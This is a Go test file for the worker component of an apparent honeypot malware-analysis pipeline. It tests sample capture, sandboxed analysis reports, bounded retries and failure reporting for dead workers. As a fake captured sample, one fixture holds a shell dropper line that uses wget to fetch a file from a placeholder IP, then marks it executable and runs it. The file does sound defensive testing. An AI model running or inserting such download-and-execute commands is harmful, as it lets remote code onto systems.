package worker_test

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/kansoku/kansoku/internal/bus"
	"github.com/kansoku/kansoku/internal/event"
	"github.com/kansoku/kansoku/internal/sandbox"
	"github.com/kansoku/kansoku/internal/sensortest"
	"github.com/kansoku/kansoku/internal/store/sqlite"
	"github.com/kansoku/kansoku/internal/worker"
	"github.com/nats-io/nats.go/jetstream"
)

func TestMain(m *testing.M) {
	sandbox.MaybeRunHelper()
	os.Exit(m.Run())
}

// buildSample cross-compiles a tiny Go program for arm, standing in for a
// captured IoT binary (no real malware in the repository).
func buildSample(t *testing.T) []byte {
	t.Helper()
	dir := t.TempDir()
	src := filepath.Join(dir, "main.go")
	os.WriteFile(src, []byte(`package main

import "os"

func main() {
	os.WriteFile("/tmp/.x", []byte("/bin/busybox ECCHI watchdog"), 0o755)
}
`), 0o600)
	out := filepath.Join(dir, "sample")
	cmd := exec.Command("go", "build", "-o", out, src)
	cmd.Env = append(os.Environ(), "GOOS=linux", "GOARCH=arm", "GOARM=7", "CGO_ENABLED=0", "GOFLAGS=")
	cmd.Dir = dir
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("build sample: %v\n%s", err, b)
	}
	b, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

type env struct {
	bus   *bus.Bus
	spool *bus.Spool
	rec   *sensortest.Recorder
	db    *sqlite.DB
}

func setup(t *testing.T) *env {
	t.Helper()
	dir := t.TempDir()
	b, err := bus.Connect(context.Background(), bus.Options{DataDir: dir})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(b.Close)
	sp, err := bus.OpenSpool(filepath.Join(dir, "spool"), b, bus.SpoolOptions{})
	if err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	t.Cleanup(cancel)
	go sp.Run(ctx, time.Second)
	db, err := sqlite.Open(context.Background(), filepath.Join(dir, "k.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	return &env{bus: b, spool: sp, rec: sensortest.NewRecorder(), db: db}
}

// capture stores a sample as a sensor would and queues it like the collector.
func (e *env) capture(t *testing.T, data []byte) string {
	t.Helper()
	ctx := context.Background()
	info, err := e.spool.PutSample(ctx, data)
	if err != nil {
		t.Fatal(err)
	}
	ev := event.New("telnet", "sample.captured")
	ev.Sensor = "s1"
	ev.Set("sha256", info.SHA256).Set("sha1", info.SHA1).Set("md5", info.MD5).Set("size", info.Size)
	fresh, err := e.db.InsertEvents(ctx, []*event.Event{ev})
	if err != nil {
		t.Fatal(err)
	}
	e.spool.Flush()
	deadline := time.Now().Add(30 * time.Second)
	for {
		if _, err := e.bus.Get(ctx, bus.SamplesBucket, info.SHA256); err == nil {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("sample never reached the object store")
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err := worker.EnqueueHook(e.bus, e.db)(ctx, fresh); err != nil {
		t.Fatal(err)
	}
	return info.SHA256
}

func TestWorkerProducesStoredReport(t *testing.T) {
	if err := sandbox.Available(); err != nil {
		t.Skipf("sandbox unavailable (scripts/setup.sh installs qemu-user-static, strace): %v", err)
	}
	e := setup(t)
	sample := buildSample(t)
	sha := e.capture(t, sample)
	cfg := worker.DefaultConfig()
	cfg.Timeout = 10 * time.Second
	cfg.Reboot = false
	w := &worker.Worker{Bus: e.bus, Emitter: e.rec, Config: cfg, Name: "w1"}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { w.Run(ctx); close(done) }()
	evs := e.rec.WaitFor(t, "analysis.report", 3*time.Minute, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "analysis.report", nil) == 1
	})
	cancel()
	<-done
	rep := evs[0]
	if rep.Str("sha256") != sha || rep.Str("status") != "done" || rep.Str("file_type") != "elf" {
		t.Fatalf("report event: status %q type %q err %q", rep.Str("status"), rep.Str("file_type"), rep.Str("error"))
	}
	if _, err := e.db.InsertEvents(context.Background(), evs); err != nil {
		t.Fatal(err)
	}
	r, err := e.db.Report(context.Background(), sha)
	if err != nil || r.Status != "done" || r.Arch == "" {
		t.Fatalf("stored report: %+v %v", r, err)
	}
	s, _ := e.db.Sample(context.Background(), sha)
	if s.Arch == "" || s.FileType != "elf" {
		t.Fatalf("sample not updated: %+v", s)
	}
}

// TestFailedJobsAreRetriedBounded: a job whose report cannot be delivered
// is redelivered, but only max_attempts times.
func TestFailedJobsAreRetriedBounded(t *testing.T) {
	e := setup(t)
	e.capture(t, []byte("#!/bin/sh\nwget http://198.51.100.9/x; chmod +x x; ./x\n"))
	cfg := worker.DefaultConfig()
	cfg.Dynamic = false
	cfg.MaxAttempts = 3
	em := &countingEmitter{Recorder: sensortest.NewRecorder()}
	w := &worker.Worker{Bus: e.bus, Emitter: em, Config: cfg, Name: "w1"}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan struct{})
	go func() { w.Run(ctx); close(done) }()
	deadline := time.Now().Add(60 * time.Second)
	for em.n.Load() < 3 && time.Now().Before(deadline) {
		time.Sleep(20 * time.Millisecond)
	}
	time.Sleep(2 * time.Second) // would be redelivered again within this if unbounded
	cancel()
	<-done
	if n := em.n.Load(); n != 3 {
		t.Fatalf("job attempted %d times, want 3", n)
	}
}

// TestJobMarkedFailedAfterDeadWorkers (#13.6): a job whose worker dies on
// every attempt is not dropped silently: the worker that gets it once more
// emits a failed report with the reason, so the sample stops being
// "queued", and the first retry comes after the ack wait.
func TestJobMarkedFailedAfterDeadWorkers(t *testing.T) {
	e := setup(t)
	sha := e.capture(t, []byte("#!/bin/sh\necho dead workers\n"))
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	const ackWait = 500 * time.Millisecond
	// Two workers take the job and die without a word.
	cons, err := e.bus.JS.CreateOrUpdateConsumer(ctx, bus.JobsStream, jetstream.ConsumerConfig{Durable: "analysis",
		FilterSubject: "jobs.analysis", AckPolicy: jetstream.AckExplicitPolicy, AckWait: ackWait, MaxDeliver: -1})
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 2; i++ {
		batch, err := cons.Fetch(1, jetstream.FetchMaxWait(10*time.Second))
		if err != nil {
			t.Fatal(err)
		}
		n := 0
		for range batch.Messages() {
			n++
		}
		if n != 1 {
			t.Fatalf("dead worker %d got %d jobs", i, n)
		}
	}
	cfg := worker.DefaultConfig()
	cfg.Dynamic = false
	cfg.MaxAttempts = 2
	rec := sensortest.NewRecorder()
	w := &worker.Worker{Bus: e.bus, Emitter: rec, Config: cfg, Name: "w1", AckWait: ackWait}
	done := make(chan struct{})
	go func() { w.Run(ctx); close(done) }()
	evs := rec.WaitFor(t, "analysis.report", 30*time.Second, func(evs []*event.Event) bool {
		return sensortest.Count(evs, "analysis.report", nil) == 1
	})
	cancel()
	<-done
	rep := evs[0]
	if rep.Str("sha256") != sha || rep.Str("status") != "failed" || !strings.Contains(rep.Str("error"), "2 attempts") {
		t.Fatalf("report: status %q error %q", rep.Str("status"), rep.Str("error"))
	}
	if _, err := e.db.InsertEvents(context.Background(), evs); err != nil {
		t.Fatal(err)
	}
	if r, err := e.db.Report(context.Background(), sha); err != nil || r.Status != "failed" || r.Error == "" {
		t.Fatalf("stored report: %+v %v", r, err)
	}
}

type countingEmitter struct {
	*sensortest.Recorder
	n atomic.Int32
}

func (c *countingEmitter) Emit(_ context.Context, e *event.Event) error {
	if e.Data["attempts"] == nil { // not the give-up report after the last attempt
		c.n.Add(1)
	}
	return errors.New("bus down")
}
